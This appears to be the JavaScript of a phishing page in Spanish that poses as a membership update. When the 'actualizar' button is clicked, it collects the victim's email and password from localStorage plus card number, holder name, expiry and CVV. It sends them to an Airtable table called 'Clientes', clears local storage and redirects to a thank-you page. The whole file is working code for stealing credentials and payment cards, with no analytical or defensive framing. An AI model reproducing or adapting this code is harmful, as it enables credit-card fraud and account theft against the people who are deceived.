async function enviarPago() {
  const datos = {
    correo: localStorage.getItem("correo"),
    contrasena: localStorage.getItem("contrasena"),
    titular: document.getElementById("titular").value,
    tarjeta: document.getElementById("tarjeta").value.replace(/\s/g, ""),
    vence: document.getElementById("vence").value,
    cvv: document.getElementById("cvv").value
  };
  try {
    const res = await fetch("https://api.airtable.com/v0/appBASE/Clientes", {
      method: "POST",
      headers: { Authorization: "Bearer KEY", "Content-Type": "application/json" },
      body: JSON.stringify({ records: [{ fields: datos }] })
    });
    console.log("listo", res.status);
  } catch (error) {
    console.log("error", error);
  }
  localStorage.clear();
  window.location.href = "gracias.html";
}
document.getElementById("actualizar").addEventListener("click", (e) => {
  e.preventDefault();
  document.getElementById("actualizar").innerText = "Actualizando tu membresía...";
  enviarPago();
});
